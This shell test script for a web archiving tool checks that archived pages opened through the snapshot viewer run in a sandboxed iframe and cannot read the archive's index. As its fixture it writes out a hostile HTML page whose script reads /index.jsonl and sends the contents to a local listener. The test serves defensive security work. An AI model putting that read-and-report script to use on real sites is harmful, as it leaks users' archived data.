#!/bin/sh
# Isolated viewing (abx(7) SECURITY): a hostile archived page, opened from its
# snapshot page in headless chromium over HTTP from a static server on the
# data directory, cannot read the archive.  The page tries to read
# /index.jsonl and reports what it got to a listener on 127.0.0.1: through
# the snapshot page's link it must report an error, never the archive's
# records.  Opened raw (the control), the same page does read them.
. "$(dirname "$0")/lib/tap.sh"
. "$(dirname "$0")/lib/httpd.sh"
command -v chromium >/dev/null 2>&1 || { echo "1..0 # SKIP chromium not installed (tests/lib/deps.sh)"; exit 0; }

# the listener: the test httpd, logging every request path
httpd_start --log "$T/report.log" || exit 1
LISTEN=$BASE

# the hostile page, archived by a plugin that fetches nothing
mkdir -p "$T/plugins/evil"
cat >"$T/evil.html" <<EOS
<!doctype html><html><head><title>hostile</title></head><body><p>hostile page</p><script>
function report(s) { fetch("$LISTEN/report?" + encodeURIComponent(s), {mode: "no-cors"}); }
fetch("/index.jsonl").then(function (r) { return r.text(); })
	.then(function (t) { report("read:" + t.slice(0, 300)); },
	      function (e) { report("error:" + e); });
</script></body></html>
EOS
cat >"$T/plugins/evil/on_Snapshot__50_evil.sh" <<EOS
#!/bin/sh
cp "$T/evil.html" evil.html
echo '{"type":"ArchiveResult","status":"succeeded","output_str":"evil.html"}'
EOS
chmod +x "$T/plugins/evil/on_Snapshot__50_evil.sh"
ABX_PLUGINS_DIR=$T/plugins
export ABX_PLUGINS_DIR

D=$T/data
C=$(abx-add -d "$D" --plugins evil http://127.0.0.1:9/hostile | jq -r .id)
expect_exit 0 "the hostile page is archived" abx-tick -d "$D"
S=$(abx-ls -d "$D" -k snapshot --jsonl | jq -r .id)
ok "the archive has an index.jsonl at its root" test -s "$D/index.jsonl"
ok "and the hostile page in its snapshot" test -s "$D/crawls/$C/$S/evil/evil.html"

# the archive served over HTTP, as people share one
rm -f "$T/archive.port"
python3 "$TOP/tests/httpd.py" --root "$D" --port-file "$T/archive.port" 2>"$T/archive.err" &
wait_for 10 test -s "$T/archive.port"
ARCHIVE="http://127.0.0.1:$(cat "$T/archive.port")"
PAGE="$ARCHIVE/crawls/$C/$S/index.html"

# link TEXT: the absolute URL of the snapshot page's link whose text is TEXT
link() {
	python3 - "$D/crawls/$C/$S/index.html" "$PAGE" "$1" <<'EOS'
import html.parser, sys, urllib.parse
class P(html.parser.HTMLParser):
    href = None; cur = None; found = None
    def handle_starttag(self, tag, attrs):
        if tag == "a": self.cur = dict(attrs).get("href")
    def handle_data(self, d):
        if self.cur is not None and d.strip() == sys.argv[3] and self.found is None: self.found = self.cur
    def handle_endtag(self, tag):
        if tag == "a": self.cur = None
p = P(); p.feed(open(sys.argv[1], encoding="utf-8").read())
print(urllib.parse.urljoin(sys.argv[2], p.found) if p.found else "")
EOS
}

# browse URL: load URL in headless chromium until its scripts settle; the DOM in $T/dom.html
browse() {
	_sb=
	[ "$(id -u)" -eq 0 ] && _sb=--no-sandbox   # the test's browser: root has no sandbox
	timeout -k 5 60 chromium --headless $_sb --disable-gpu --disable-dev-shm-usage --no-first-run \
		--disable-background-networking --disable-component-update --disable-sync \
		--user-data-dir="$T/profile" --virtual-time-budget=5000 --dump-dom "$1" \
		>"$T/dom.html" 2>"$T/chromium.err"
}
reports() { grep -c '^/report' "$T/report.log"; }
# browse_report URL: browse URL until its script reports (up to 3 loads: on a
# loaded machine the virtual time budget can end before the fetch is answered)
browse_report() {
	for _try in 1 2 3; do
		: >"$T/report.log"
		browse "$1" || return 1
		wait_for 10 test "$(reports)" -ge 1 && return 0
	done
	return 0
}

VIEW=$(link evil.html)
like "$VIEW" "/crawls/$C/$S/index.html\?view=1$" "the snapshot page links the archived page through its viewer"
ok "chromium opens the link from the snapshot page" browse_report "$VIEW"
like "$(cat "$T/dom.html")" '<iframe sandbox="allow-scripts allow-forms allow-popups"' \
	"the viewer shows the page in an iframe sandbox without allow-same-origin"
is "$(reports)" 1 "the hostile page's script ran and reported once"
like "$(cat "$T/report.log")" '^/report\?error' "its read of /index.jsonl failed"
ok "and the listener got nothing of the archive" sh -c "! grep -q '$S' '$T/report.log'"

# the control: opened raw, in the archive's origin, the same page reads the archive
ok "chromium opens the archived page raw" browse_report "$ARCHIVE/crawls/$C/$S/evil/evil.html"
like "$(cat "$T/report.log")" "^/report\\?read.*$S" "opened raw, it reads /index.jsonl (why the viewer is needed)"
done_testing
